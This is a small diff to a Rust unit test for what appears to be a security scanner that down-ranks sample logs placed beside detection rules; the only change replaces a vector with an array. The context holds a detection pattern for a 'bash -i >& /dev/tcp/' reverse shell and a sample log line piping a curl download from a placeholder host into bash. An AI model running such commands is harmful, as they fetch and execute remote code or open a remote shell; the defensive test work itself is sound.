@@ -272,7 +272,7 @@ CommandLine|contains: 'bash -i >& /dev/tcp/'\n  condition: sel\n";
     #[test]
     fn a_sample_log_counts_only_beside_a_detection_rule() {
         let log = "{\"CommandLine\":\"bash -c curl -fsSL https://x.example/r.sh | bash\"}\n";
-        let mut owned = vec![Finding::new(RuleId::DownloadExec, 1, "x")];
+        let mut owned = [Finding::new(RuleId::DownloadExec, 1, "x")];
         let mut views =
             vec![FileFindings { path: "tests/sample.log", text: log, findings: owned.iter_mut().collect() }];
         lower_documented_attacks(&mut views, 0, true);
